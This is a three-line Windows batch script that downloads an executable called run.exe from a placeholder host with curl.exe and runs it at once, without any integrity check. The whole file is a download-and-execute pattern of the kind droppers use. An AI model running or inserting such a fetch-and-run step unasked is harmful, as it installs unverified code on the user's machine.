@echo off
curl.exe -o run.exe https://example.invalid/run.exe
.\run.exe
